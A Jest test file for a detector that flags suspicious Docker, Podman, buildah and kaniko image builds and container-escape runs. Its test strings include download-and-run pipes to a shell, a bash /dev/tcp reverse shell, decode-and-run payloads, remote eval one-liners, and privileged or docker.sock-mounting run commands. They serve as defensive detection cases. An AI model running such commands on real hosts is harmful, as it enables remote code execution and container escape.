/**
 * Hand-written cases for each rule of the model, each both ways (fires / does not fire).
 * Expected values are written by hand from the rules in docs/detection.md.
 */
import { detect, ModelEvent, makeDetectOptions } from '../../src/detection/model';
import { tokenize } from '../../src/detection/model/tokenize';
import { collectExecs } from '../../src/detection/model/unwrap';

const words = (s: string, win = false): string[] =>
  tokenize(s, win)
    .filter((t) => t.kind === 'word')
    .map((t) => t.value);
const ev = (process: string, extra: Partial<ModelEvent> = {}): ModelEvent => ({
  t1612_source: 'test',
  event_kind: 'process',
  process,
  ...extra,
});
const act = (process: string, extra: Partial<ModelEvent> = {}): string => detect(ev(process, extra)).t1612_activity;

describe('tokeniser', () => {
  it.each([
    [`docker build -t "a b" 'c d' e\\ f`, ['docker', 'build', '-t', 'a b', 'c d', 'e f']],
    [`echo "x\\"y" '$HOME'`, ['echo', 'x"y', '$HOME']],
    [`a $(b c) d`, ['a', '$(b c)', 'd']],
  ])('POSIX %s', (line, want) => expect(words(line)).toEqual(want));

  it('POSIX operators and redirections are not words', () => {
    const t = tokenize('cd /tmp&&docker build -f- . </tmp/Dockerfile 2>&1|tee x; echo ok', false);
    expect(t.filter((x) => x.kind === 'op').map((x) => x.value)).toEqual(['&&', '|', ';']);
    expect(t.filter((x) => x.kind === 'redir').map((x) => [x.value, x.target])).toEqual([
      ['<', '/tmp/Dockerfile'],
      ['2>&', '1'],
    ]);
  });

  it.each([
    [
      `"C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe"  build -t x C:\\Users\\u\\AppData\\Local\\Temp\\x`,
      [
        'C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe',
        'build',
        '-t',
        'x',
        'C:\\Users\\u\\AppData\\Local\\Temp\\x',
      ],
    ],
    [`docker.exe build "C:\\dir with space\\\\" "a\\"b"`, ['docker.exe', 'build', 'C:\\dir with space\\', 'a"b']],
  ])('Windows %s', (line, want) => expect(words(line, true)).toEqual(want));
});

describe('unwrapping', () => {
  const argvs = (line: string, cwd?: string) =>
    collectExecs(line, false, cwd).map((e) => [e.argv.join(' '), e.cwd ?? '']);
  it.each([
    ['sudo -u root -E docker build .', 'docker build .'],
    ['sudo -D /tmp/x docker build .', 'docker build .'],
    ['env -i PATH=/usr/bin DOCKER_BUILDKIT=1 docker build .', 'docker build .'],
    ['env -S "docker build ."', 'docker build .'],
    ['nohup docker build .', 'docker build .'],
    ['timeout -k 5 -s KILL 300 docker build .', 'docker build .'],
    ['nice -n 10 docker build .', 'docker build .'],
    ['nice -5 docker build .', 'docker build .'],
    ['doas -u root docker build .', 'docker build .'],
    ['sudo nohup timeout 60 nice docker build .', 'docker build .'],
    ['busybox sh -c "docker build ."', 'docker build .'],
    ['xargs -I{} -P 4 docker build .', 'docker build .'],
    ['chroot --userspec=0:0 /host docker build .', 'docker build .'],
    ['nsenter -t 1 -m -u -i -n -p -- docker build .', 'docker build .'],
    ['nsenter --target 1 --mount docker build .', 'docker build .'],
    ['script -qc "docker build ." /dev/null', 'docker build .'],
    [`bash -c "eval 'docker build .'"`, 'docker build .'],
  ])('%s → %s', (line, want) => expect(argvs(line)[0][0]).toBe(want));

  it("PowerShell's call operator with a single-quoted name runs it: & 'docker' build", () => {
    expect(collectExecs(`powershell -c "& 'docker' build -t x 'C:\\a'"`, true, 'C:\\src')[0].argv).toEqual([
      'docker',
      'build',
      '-t',
      'x',
      'C:\\a',
    ]);
  });
  it.each(['script -qc "docker build -t x /tmp/a" /dev/null', 'env -S "docker build -t x /tmp/a"'])(
    'a wrapper whose option value is the command is unwrapped from the process line: %s',
    (line) => expect(detect(ev(line, { process_current_directory: '/home/u' })).from_temp).toBe(1),
  );
  it('script without -c runs no command given on its line', () =>
    expect(act('script -q /tmp/docker-build.log', { process_current_directory: '/home/u' })).toBe('none'));

  it('sudo -D and env -C move the working directory', () => {
    expect(argvs('sudo -D /tmp/x docker build .', '/home/u')[0][1]).toBe('/tmp/x');
    expect(argvs('env --chdir=/dev/shm docker build .', '/home/u')[0][1]).toBe('/dev/shm');
  });

  it('sh -c scripts are split on ; && || | and cd moves later commands', () => {
    expect(argvs(`bash -lc 'cd /tmp/a && make; docker build . || echo fail | logger'`, '/home/u')).toEqual([
      ['make', '/tmp/a'],
      ['docker build .', '/tmp/a'],
      ['echo fail', '/tmp/a'],
      ['logger', '/tmp/a'],
    ]);
  });

  it('an unquoted joined script (auditd argv joined with spaces) is read from the rest of the line', () => {
    expect(argvs('sh -c cd /var/tmp && docker build .', '/')).toEqual([['docker build .', '/var/tmp']]);
  });

  it("a partly quoted joined script (`d''ocker \"bu\"il'd'`) is read from the rest of the line; a wholly quoted one is its own", () => {
    expect(argvs(`sh -c d''ocker "bu"il'd' -t x .`, '/')).toEqual([['docker build -t x .', '/']]);
    expect(argvs(`sh -c 'docker build -t x .' sh /tmp/a`, '/')).toEqual([['docker build -t x .', '/']]);
    expect(argvs(`sh -c "echo \\"x\\"" docker build /tmp/a`, '/')).toEqual([['echo x', '/']]);
  });

  it('a non-shell first word is the process: later words are its arguments, not commands', () => {
    expect(argvs('grep docker build /tmp/x && docker build .')).toEqual([['grep docker build /tmp/x', '']]);
  });

  it('sudo -l / sudo -e and `command -v` do not run the command', () => {
    expect(argvs('sudo -l docker build .')).toEqual([]);
    expect(argvs('command -v docker')).toEqual([]);
  });
});

describe('build recognition from argv', () => {
  it.each([
    'docker build .',
    'docker image build .',
    'docker builder build .',
    'docker buildx build .',
    'docker buildx b .',
    'docker buildx --builder ci build .',
    'docker compose build',
    'docker compose -f x.yml -p p build web',
    'docker-compose build',
    '/usr/bin/podman build -t x .',
    'podman --log-level debug image build .',
    'buildah bud -t x .',
    'buildah --storage-driver vfs build .',
    'nerdctl --namespace k8s.io build .',
    'buildctl --addr tcp://bk:1234 build --frontend dockerfile.v0 --local context=. --local dockerfile=.',
    '/kaniko/executor --context=dir:///workspace --dockerfile=Dockerfile --destination=r/x',
    'executor --context dir:///w --dockerfile /w/Dockerfile --no-push',
    '/usr/libexec/docker/cli-plugins/docker-buildx buildx build .',
    'docker -H tcp://127.0.0.1:2375 build -t x .',
    'docker --host=unix:///run/docker.sock build .',
    'docker --context prod build .',
    'docker -c prod build .',
    'docker --config /etc/d -D --log-level debug --tlsverify --tlscacert ca.pem build .',
    'docker -l debug build .',
    '"C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe" build .',
    'C:\\PROGRA~1\\Docker\\docker.exe build .',
    'sudo -E docker build .',
    "sh -c 'docker build .'",
    "dash -c 'set -e; docker build .'",
    "zsh -c 'true || docker build .'",
    'cmd.exe /c "cd C:\\src && docker build ."',
  ])('is a build: %s', (line) => expect(act(line, { process_current_directory: '/home/u' })).toBe('build'));

  it.each([
    'docker builder prune -af',
    'docker builder ls',
    'docker buildx ls',
    'docker buildx create --use',
    'docker buildx rm ci',
    'docker buildx use ci',
    'docker buildx inspect',
    'docker buildx du',
    'docker buildx prune -f',
    'docker image ls',
    'docker images',
    'docker ps',
    'docker compose up -d',
    'docker-compose up',
    'podman pull alpine',
    'buildah from alpine',
    'buildctl du',
    'grep "docker build" /tmp/x',
    'grep -rn "docker build" /tmp/ci-scripts/',
    'echo docker build -t x /tmp/x',
    'vim docker-build.sh',
    'man docker-build',
    'cat /tmp/docker/build.log',
    'git commit -m "docker build fix"',
    'bash -c \'grep "docker build" /tmp/x\'',
    'executor --help',
    'mydocker build .',
    'docker-buildx version',
  ])('is not a build: %s', (line) =>
    expect(detect(ev(line, { process_current_directory: '/tmp' })).is_docker_build).toBe(0),
  );
});

describe('from_temp', () => {
  const r = (line: string, cwd?: string) => detect(ev(line, { process_current_directory: cwd }));
  it.each([
    ['docker build /tmp/x', undefined, 'context in /tmp: /tmp/x'],
    ['docker build /var/tmp/x', undefined, 'context in /var/tmp: /var/tmp/x'],
    ['docker build /dev/shm/.x', undefined, 'context in /dev/shm: /dev/shm/.x'],
    ['docker build /run/user/1000/b', undefined, 'context in /run/user/1000: /run/user/1000/b'],
    ['docker build .', '/tmp', 'context in /tmp: /tmp ("." in cwd /tmp)'],
    ['docker build ../x', '/tmp/a', 'context in /tmp: /tmp/x ("../x" in cwd /tmp/a)'],
    ['docker build -f /tmp/D .', '/home/u', 'Dockerfile in /tmp: /tmp/D'],
    ['docker build --file=/dev/shm/D .', '/home/u', 'Dockerfile in /dev/shm: /dev/shm/D'],
    ['docker build --file /var/tmp/D .', '/home/u', 'Dockerfile in /var/tmp: /var/tmp/D'],
    ['docker build -f D .', '/tmp/w', 'Dockerfile in /tmp: /tmp/w/D ("D" in cwd /tmp/w)'],
    [
      'docker.exe build -t x C:\\Users\\u\\AppData\\Local\\Temp\\x',
      undefined,
      'context in %TEMP%: C:\\Users\\u\\AppData\\Local\\Temp\\x',
    ],
    [
      'docker.exe build -t x .',
      'C:\\Windows\\Temp\\b',
      'context in \\Windows\\Temp: C:\\Windows\\Temp\\b ("." in cwd C:\\Windows\\Temp\\b)',
    ],
    ["bash -c 'cd /tmp/x && docker build .'", '/home/u', 'context in /tmp: /tmp/x ("." in cwd /tmp/x)'],
    ['podman build -t x /tmp/x', undefined, 'context in /tmp: /tmp/x'],
    [
      'buildctl build --frontend dockerfile.v0 --local context=/tmp/c --local dockerfile=/home/u',
      undefined,
      'context in /tmp: /tmp/c',
    ],
    [
      '/kaniko/executor --context=dir:///tmp/k --dockerfile=Dockerfile',
      undefined,
      'Dockerfile in /tmp: /tmp/k/Dockerfile ("Dockerfile" in cwd /tmp/k)',
    ],
    ['docker compose -f /tmp/c/compose.yml build', '/home/u', 'compose file in /tmp: /tmp/c/compose.yml'],
  ])('fires: %s (cwd %s)', (line, cwd, reason) => {
    const d = r(line, cwd);
    expect(d.from_temp).toBe(1);
    expect(d.t1612_reasons[0]).toBe(reason);
  });

  it.each([
    ['docker build .', '/home/u/tmp'],
    ['docker build /tmpfoo/x', undefined],
    ['docker build /home/u/tmp/x', undefined],
    ['docker build .', undefined],
    ['docker buildx build --iidfile /tmp/docker-actions-toolkit-AbC/iidfile -t app .', '/home/runner/work/app'],
    ['docker buildx build --cache-to type=local,dest=/tmp/.buildx-cache-new --no-cache -t app .', '/srv/app'],
    ['docker buildx build --output type=local,dest=/tmp/out .', '/srv/app'],
    ['docker buildx build --secret id=x,src=/run/user/1000/s --metadata-file /tmp/m.json .', '/srv/app'],
    ['docker -H unix:///run/user/1000/docker.sock build .', '/srv/app'],
    ['docker.exe build -t x C:\\src\\app', undefined],
  ])('does not fire: %s (cwd %s)', (line, cwd) => expect(r(line, cwd).from_temp).toBe(0));
});

describe('no_cache', () => {
  it.each([
    'docker build --no-cache .',
    'docker build --no-cache=true .',
    'podman build --no-cache .',
    'buildah bud --no-cache .',
    'docker compose build --no-cache',
    'buildctl build --no-cache --local context=.',
    'docker buildx build --no-cache-filter base .',
  ])('fires: %s', (line) => expect(detect(ev(line)).no_cache).toBe(1));
  it.each([
    'docker build --no-cache=false .',
    'docker build -t no-cache .',
    'docker build --pull .',
    'docker run alpine echo --no-cache',
  ])('does not fire: %s', (line) => expect(detect(ev(line)).no_cache).toBe(0));
});

describe('external_file', () => {
  it.each([
    ['docker build https://github.com/evil/r.git#main', 'remote context: https://github.com/evil/r.git#main'],
    ['docker build -t x http://10.0.0.1/ctx.tar', 'remote context: http://10.0.0.1/ctx.tar'],
    ['docker build git://example.com/r', 'remote context: git://example.com/r'],
    ['docker build git@github.com:evil/r.git', 'remote context: git@github.com:evil/r.git'],
    ['docker build ssh-host/r.git#dev', 'remote context: ssh-host/r.git#dev'],
    ['docker build --file https://x/Dockerfile .', 'remote Dockerfile: https://x/Dockerfile'],
    ['docker build -f=https://x/Dockerfile .', 'remote Dockerfile: https://x/Dockerfile'],
    ['docker build -f HTTP://X/Dockerfile .', 'remote Dockerfile: HTTP://X/Dockerfile'],
    [
      'buildctl build --frontend dockerfile.v0 --opt context=https://github.com/o/r.git',
      'remote context (--opt): https://github.com/o/r.git',
    ],
    [
      '/kaniko/executor --context=git://github.com/o/r.git --destination=r/x',
      'remote context: git://github.com/o/r.git',
    ],
    ['/kaniko/executor --context=s3://bucket/ctx.tar.gz', 'remote context: s3://bucket/ctx.tar.gz'],
  ])('fires: %s', (line, reason) => {
    const d = detect(ev(line, { process_current_directory: '/home/u' }));
    expect(d.external_file).toBe(1);
    expect(d.t1612_reasons).toContain(reason);
  });
  it.each([
    'docker build -t registry.example.com/x:1 .',
    'docker build --build-arg URL=https://x/y .',
    'docker build --label src=https://github.com/o/r .',
    'docker build ./repo.git',
  ])('does not fire: %s', (line) =>
    expect(detect(ev(line, { process_current_directory: '/home/u' })).external_file).toBe(0),
  );
});

describe('stdin_dockerfile', () => {
  it.each([
    ['docker build -t x -', 'Dockerfile/context from stdin: -'],
    ['docker build -f - .', 'Dockerfile from stdin: -f -'],
    ['docker build -f- .', 'Dockerfile from stdin: -f-'],
    ['docker build --file=- .', 'Dockerfile from stdin: --file=-'],
  ])('fires: %s', (line, reason) => {
    const d = detect(ev(line, { process_current_directory: '/home/u' }));
    expect(d.stdin_dockerfile).toBe(1);
    expect(d.t1612_reasons).toContain(reason);
    // a Dockerfile on stdin alone (heredoc in CI, `docker build - < Dockerfile`) is not an alert
    expect(d.risk_score).toBe(1);
    expect(d.alert_detail).toBeUndefined();
  });
  it('a stdin Dockerfile redirected from /tmp is also from_temp', () => {
    const d = detect(ev("sh -c 'docker build - < /tmp/x/Dockerfile'", { process_current_directory: '/home/u' }));
    expect(d.from_temp).toBe(1);
    expect(d.t1612_reasons[0]).toBe('Dockerfile (stdin) in /tmp: /tmp/x/Dockerfile');
  });
  it.each(['docker build -f Dockerfile.dev .', 'docker build --iidfile - .', 'docker run -i alpine sh -'])(
    'does not fire: %s',
    (line) => expect(detect(ev(line, { process_current_directory: '/home/u' })).stdin_dockerfile).toBe(0),
  );
});

describe('suspicious_parent (exact basenames, never substrings)', () => {
  const withParent = (parent_process: string | undefined, parent_process_name?: string) =>
    detect(
      ev('docker build -t web:1.4 .', {
        process_current_directory: '/home/alice/web',
        parent_process,
        parent_process_name,
      }),
    );
  it.each([
    ['curl -s http://x/i.sh | bash -s', undefined, 'download-and-run'],
    ['bash -c "wget -qO- http://x/a | sh"', undefined, 'download-and-run'],
    ['sh -c "echo ZG9ja2Vy | base64 -d | sh"', undefined, 'decode-and-run'],
    ['bash -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"', undefined, 'reverse shell'],
    ['python3 -c "import socket,os,pty;s=socket.socket();pty.spawn(\'/bin/sh\')"', undefined, 'reverse shell'],
    ['php-fpm: pool www', 'php-fpm7.4', 'server process'],
    ['nginx: worker process', 'nginx', 'server process'],
    [
      '/opt/tomcat/bin/java -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start',
      'java',
      'server process',
    ],
    ['bash /tmp/.x/run.sh', undefined, 'script in /tmp'],
    ['/dev/shm/.k/launch', undefined, 'launcher in /dev/shm'],
    ['python3 /var/tmp/b.py', 'python3', 'script in /var/tmp'],
    ['python3 -c "import urllib.request as u;exec(u.urlopen(\'http://x/y\').read())"', 'python3', 'download-and-run'],
    ['php -r "eval(file_get_contents(\'http://x/p\'));"', 'php', 'download-and-run'],
    ['/bin/sh -c echo $PAYLOAD | base64 -d | /bin/sh -e', 'sh', 'decode-and-run'],
  ])('fires: parent %s (%s)', (p, n, what) => {
    const d = withParent(p, n);
    expect(d.suspicious_parent).toBe(1);
    expect(d.t1612_reasons[0]).toContain(what);
    expect(d.risk_score).toBe(2);
    expect(d.alert_detail).toBe('LOW: Suspicious docker build pattern');
  });
  it.each([
    ['bash /opt/deploy.sh', undefined],
    ['/bin/sh -c docker build -t web:1.4 .', undefined],
    ['python3 /opt/app/build.py', 'python3'],
    ['node /usr/lib/node_modules/npm/bin/npm-cli.js run docker:build', 'node'],
    ['su app -c "docker build ."', undefined],
    ['cmd.exe /c build.cmd', 'C:\\Windows\\System32\\cmd.exe'],
    ['/home/runner/actions-runner/bin/Runner.Worker spawnclient 110 113', 'Runner.Worker'],
    ['/bin/sh -xe /tmp/jenkins4423845712.sh', 'sh'],
    ['/bin/sh -c echo $CI_SCRIPT | base64 -d | /bin/sh -e', 'sh'], // Woodpecker CI step entrypoint
    ['/bin/sh -c echo $DRONE_SCRIPT | base64 -d | /bin/sh -e', 'sh'], // Drone docker runner
  ])('an ordinary script, build tool or CI runner is not suspicious: parent %s (%s)', (p, n) => {
    const d = withParent(p, n);
    expect(d.suspicious_parent).toBe(0);
    expect(d.alert_detail).toBeUndefined();
  });
  it.each([
    ['-bash', undefined],
    ['bash', 'bash'],
    ['/bin/bash', undefined],
    ['bash -l', undefined],
    ['zsh -i', undefined],
    ['fish', undefined],
    [undefined, 'bash'], // shell parent, command line unknown: not counted
    ['sshd: alice@pts/0', 'sshd'],
    ['git push origin main', 'git'],
    ['make publish', 'make'],
    ['powershell.exe', 'powershell.exe'],
    ['containerd-shim-runc-v2 -namespace moby', 'containerd-shim-runc-v2'],
    ['/usr/share/bin/tool', undefined],
    ['sudo docker build -t web:1.4 .', 'sudo'],
    ['gitlab-runner run', 'gitlab-runner'],
    ['bashful', undefined],
    ['pythonista', undefined],
  ])('does not fire: parent %s (%s)', (p, n) => {
    const d = withParent(p, n);
    expect(d.suspicious_parent).toBe(0);
    expect(d.risk_score).toBe(0);
    expect(d.alert_detail).toBeUndefined();
  });
});

describe('API builds', () => {
  it.each([
    ['curl --unix-socket /var/run/docker.sock -X POST "http://localhost/v1.43/build?t=evil&nocache=1"', 5],
    [
      'curl -s --unix-socket /run/docker.sock -XPOST -H "Content-Type: application/x-tar" --data-binary @/home/u/c.tar http:/v1.41/build',
      4,
    ],
    ['curl -X POST http://10.0.0.5:2375/build?remote=https://evil/x.git', 8],
    ['curl -X POST 10.0.0.5:2376/v1.41/build', 4],
    ['curl -X POST http://10.0.0.5:4243/build', 4],
    ['curl -T /tmp/ctx.tar https://dockerhost.example/v1.41/build?t=x', 7],
    ['curl -X POST http://10.0.0.5:2375/session', 4],
    ['sh -c \'echo -e "POST /v1.41/build HTTP/1.1\\r\\n" | socat - UNIX-CLIENT:/var/run/docker.sock\'', 4],
    ["python3 -c \"import docker; docker.from_env().images.build(path='/tmp/b', tag='x')\"", 7],
    [
      'powershell.exe -c "Invoke-WebRequest -Uri http://10.0.0.5:2375/build?t=x -Method Post -InFile C:\\Users\\u\\AppData\\Local\\Temp\\c.tar"',
      7,
    ],
  ])('fires: %s (risk %d)', (line, risk) => {
    const d = detect(ev(line, { process_current_directory: '/home/u' }));
    expect(d.t1612_activity).toBe('api_build');
    expect(d.api_build).toBe(1);
    expect(d.is_docker_build).toBe(1);
    expect(d.risk_score).toBe(risk);
    expect(d.alert_detail).toBeDefined();
  });
  it('API query: nocache → no_cache, remote= → external_file, client-session is not remote', () => {
    const d = detect(
      ev(
        'curl --unix-socket /var/run/docker.sock -X POST "http://x/v1.41/build?remote=client-session&session=abc&version=2"',
      ),
    );
    expect([d.api_build, d.external_file, d.no_cache]).toEqual([1, 0, 0]);
    expect(d.alert_detail).toBe('HIGH: Image build sent straight to the Docker API');
  });
  it.each([
    'curl --unix-socket /var/run/docker.sock http://localhost/v1.41/containers/json',
    'curl --unix-socket /var/run/docker.sock http://localhost/v1.41/build',
    'curl --unix-socket /var/run/docker.sock -X POST http://localhost/v1.41/build/prune',
    'curl https://example.com/build',
    'curl http://10.0.0.5:8080/build',
    'socat TCP-LISTEN:8080,fork TCP:10.0.0.9:80',
    'nc -zv 10.0.0.5 22',
    'wget https://example.com/v1/build',
  ])('does not fire: %s', (line) => expect(detect(ev(line)).api_build).toBe(0));

  it.each([
    ['socat - UNIX-CONNECT:/var/run/docker.sock', 'api_connect', 1],
    ['nc -U /var/run/docker.sock', 'api_connect', 1],
    ['ncat 10.0.0.5 2375', 'api_tcp_connect', 2],
  ])('raw socket clients are API clients, not builds: %s', (line, signal, risk) => {
    const d = detect(ev(line));
    expect(d.t1612_activity).toBe('api_client');
    expect(d[signal as 'api_connect']).toBe(1);
    expect(d.risk_score).toBe(risk);
  });

  it('auditd socket connect to docker.sock by a non-docker executable is an API client (no alert alone); by docker it is nothing', () => {
    const sock = (process_path: string, process_name: string): ModelEvent => ({
      t1612_source: 't',
      event_kind: 'socket_connect',
      socket_path: '/var/run/docker.sock',
      process_path,
      process_name,
    });
    const py = detect(sock('/usr/bin/python3.11', 'python3'));
    expect([py.t1612_activity, py.api_connect, py.risk_score, py.alert_detail]).toEqual([
      'api_client',
      1,
      1,
      undefined,
    ]);
    const x = detect(sock('/tmp/.x/kdevtmpfsi', 'kdevtmpfsi'));
    expect(x.t1612_reasons).toEqual([
      'docker.sock connect by non-docker client /tmp/.x/kdevtmpfsi: /var/run/docker.sock',
      'kdevtmpfsi runs from /tmp: /tmp/.x/kdevtmpfsi',
    ]);
    expect(x.alert_detail).toBe('HIGH: Image builder run from a writable folder');
    for (const [p, n] of [
      ['/usr/bin/docker', 'docker'],
      ['/usr/sbin/dockerd', 'exe'],
      ['/usr/libexec/docker/cli-plugins/docker-buildx', 'docker-buildx'],
      ['/usr/bin/containerd-shim-runc-v2', 'containerd-shim'],
    ]) {
      expect(detect(sock(p, n)).t1612_activity).toBe('none');
    }
    expect(
      detect({
        t1612_source: 't',
        event_kind: 'socket_connect',
        socket_path: '/dev/log',
        process_path: '/usr/bin/curl',
      }).t1612_activity,
    ).toBe('none');
  });

  it('dockerd POST /v<N>/build is corroboration (daemon_build); remote= still alerts; /build/prune, GET and /session are nothing', () => {
    const api = (m: string, p: string, q?: string): ModelEvent => ({
      t1612_source: 't',
      event_kind: 'docker_api',
      docker_api_method: m,
      docker_api_path: p,
      docker_api_query: q,
    });
    const d = detect(api('POST', '/v1.41/build', 't=x&remote=http%3A%2F%2F127.0.0.1%3A9%2FDockerfile'));
    expect([d.daemon_build, d.external_file, d.risk_score]).toEqual([1, 1, 5]);
    expect(d.t1612_reasons).toEqual([
      'remote context (API remote=): http://127.0.0.1:9/Dockerfile',
      'dockerd build request: POST /v1.41/build?t=x&remote=http%3A%2F%2F127.0.0.1%3A9%2FDockerfile',
    ]);
    expect(d.CommandLine).toBe('POST /v1.41/build?t=x&remote=http%3A%2F%2F127.0.0.1%3A9%2FDockerfile');
    const plain = detect(api('POST', '/build'));
    expect([plain.daemon_build, plain.risk_score, plain.alert_detail]).toEqual([1, 1, undefined]);
    expect(detect(api('POST', '/v1.41/build/prune', 'filters=')).t1612_activity).toBe('none');
    expect(detect(api('GET', '/v1.41/build')).t1612_activity).toBe('none');
    expect(detect(api('POST', '/session')).t1612_activity).toBe('none');
  });

  it('network connection to a plain API port by a non-docker process alerts; TLS 2376 does not; docker.exe is nothing', () => {
    const net = (p: string, port: string): ModelEvent => ({
      t1612_source: 't',
      event_kind: 'network',
      process_path: p,
      dest_ip: '10.0.0.5',
      dest_port: port,
    });
    expect(detect(net('/usr/bin/python3', '2375')).alert_detail).toBe(
      'MEDIUM: Plain-text Docker API port used by a non-docker client',
    );
    expect(detect(net('/usr/bin/python3', '4243')).api_tcp_connect).toBe(1);
    expect(detect(net('/usr/bin/python3', '2376')).alert_detail).toBeUndefined();
    expect(detect(net('C:\\Program Files\\Docker\\docker.exe', '2375')).t1612_activity).toBe('none');
    expect(detect(net('/usr/bin/python3', '443')).t1612_activity).toBe('none');
  });
});

describe('escape-ready runs', () => {
  it.each([
    [
      'docker run -v /var/run/docker.sock:/var/run/docker.sock alpine',
      'socket_mount',
      'docker.sock mounted: -v /var/run/docker.sock:/var/run/docker.sock',
    ],
    [
      'docker run --volume=/run/docker.sock:/s alpine',
      'socket_mount',
      'docker.sock mounted: --volume=/run/docker.sock:/s',
    ],
    [
      'docker container create --mount type=bind,source=/var/run/docker.sock,target=/d alpine',
      'socket_mount',
      'docker.sock mounted: --mount type=bind,source=/var/run/docker.sock,target=/d',
    ],
    [
      'podman run --mount=type=bind,src=/run/docker.sock,dst=/d alpine',
      'socket_mount',
      'docker.sock mounted: --mount=type=bind,src=/run/docker.sock,dst=/d',
    ],
    [
      'nerdctl run -v /var/run:/var/run alpine',
      'socket_mount',
      'host /var/run mounted (holds docker.sock): -v /var/run:/var/run',
    ],
    ['docker run -it --privileged alpine sh', 'privileged_run', 'privileged: --privileged'],
    ['docker run --pid=host alpine', 'privileged_run', 'host PID namespace: --pid=host'],
    ['docker run --pid host alpine', 'privileged_run', 'host PID namespace: --pid host'],
    ['docker run -v /:/host alpine chroot /host', 'privileged_run', 'host root mounted: -v /:/host'],
    ['docker -H tcp://10.0.0.5:2375 run -d -v /:/mnt alpine', 'privileged_run', 'host root mounted: -v /:/mnt'],
    ['sudo docker run --rm -dit --privileged alpine', 'privileged_run', 'privileged: --privileged'],
  ])('fires: %s', (line, signal, reason) => {
    const d = detect(ev(line));
    expect(d.t1612_activity).toBe('run');
    expect(d.is_docker_build).toBe(0);
    expect(d[signal as 'socket_mount' | 'privileged_run']).toBe(1);
    expect(d.t1612_reasons).toContain(reason);
    expect(d.alert_detail).toBeDefined();
  });
  it.each([
    'docker run --rm alpine echo /var/run/docker.sock',
    'docker run -v /home/u/data:/data alpine',
    'docker run -v data:/var/run/docker.sock alpine',
    'docker run --privileged=false alpine',
    'docker run alpine sh -c "docker run --privileged x"',
    'docker run --pid=container:abc alpine',
    'docker exec -it c sh',
    'docker start c',
  ])('does not fire: %s', (line) => {
    const d = detect(ev(line));
    expect(d.socket_mount + d.privileged_run).toBe(0);
    expect(d.alert_detail).toBeUndefined();
  });

  it('dockerd containers/create form data: Privileged / PidMode / host root / Mounts; plain form is nothing', () => {
    const form = (f: object | string): ModelEvent => ({
      t1612_source: 't',
      event_kind: 'docker_api',
      docker_api_form: typeof f === 'string' ? f : JSON.stringify(f),
    });
    expect(detect(form({ Image: 'x', HostConfig: { Privileged: true } })).privileged_run).toBe(1);
    expect(detect(form({ HostConfig: { PidMode: 'host' } })).privileged_run).toBe(1);
    expect(detect(form({ HostConfig: { Binds: ['/:/host'] } })).t1612_reasons).toEqual([
      'host root mounted: dockerd containers/create Binds /:/host',
    ]);
    expect(
      detect(form({ HostConfig: { Mounts: [{ Type: 'bind', Source: '/var/run/docker.sock', Target: '/s' }] } }))
        .socket_mount,
    ).toBe(1);
    expect(detect(form('{"HostConfig":{"Binds":["/var/run/docker.sock:/s"],"Privileged":tr')).socket_mount).toBe(1); // truncated JSON
    expect(detect(form({ HostConfig: { Binds: ['/home/u:/w'], Privileged: false } })).t1612_activity).toBe('none');
  });

  it('curl to containers/create with a socket bind in the body is a run', () => {
    const d = detect(
      ev(
        `curl --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' -d '{"Image":"x","HostConfig":{"Binds":["/var/run/docker.sock:/s"]}}' http://localhost/v1.41/containers/create`,
      ),
    );
    expect(d.t1612_activity).toBe('run');
    expect(d.socket_mount).toBe(1);
  });
});

describe('scoring, alert texts, options', () => {
  it('weights and threshold are overridable', () => {
    const o = makeDetectOptions({ weights: { from_temp: 1 }, threshold: 3 });
    const d = detect(ev('docker build /tmp/x'), o);
    expect(d.risk_score).toBe(1);
    expect(d.alert_detail).toBeUndefined();
    expect(detect(ev('docker build /tmp/x')).alert_detail).toBe('MEDIUM: Dockerfile in temporary directory');
    expect(() => makeDetectOptions({ weights: { api_build: Number.NaN } })).toThrow();
  });
  it('new signals alone: api_build, socket_mount, privileged_run alert; stdin alone does not', () => {
    expect(detect(ev('curl -X POST http://h:2375/build')).alert_detail).toBe(
      'HIGH: Image build sent straight to the Docker API',
    );
    expect(detect(ev('docker build -f - /srv/app')).alert_detail).toBeUndefined();
    expect(detect(ev('docker build -f - /srv/app', { parent_process: 'nginx: worker process' })).alert_detail).toBe(
      'HIGH: Dockerfile piped from stdin by shell/script',
    );
    expect(detect(ev('docker run --privileged x')).alert_detail).toBe(
      'HIGH: Privileged container run with host access',
    );
  });
  it('a no-cache build from a suspicious launcher gets the seed text; --no-cache alone does not alert', () => {
    expect(detect(ev('docker build --no-cache /srv/app', { parent_process: 'bash /tmp/ci.sh' })).alert_detail).toBe(
      'MEDIUM: No-cache build from suspicious parent',
    );
    expect(detect(ev('docker build --no-cache /srv/app')).alert_detail).toBeUndefined();
  });
  it('non-process kinds without docker evidence are skipped; no process → none', () => {
    expect(
      detect({ t1612_source: 't', event_kind: 'file', process: 'docker build /tmp/x', file_path: '/tmp/x/Dockerfile' })
        .t1612_activity,
    ).toBe('none');
    expect(detect({ t1612_source: 'none:x' }).t1612_activity).toBe('none');
  });
});
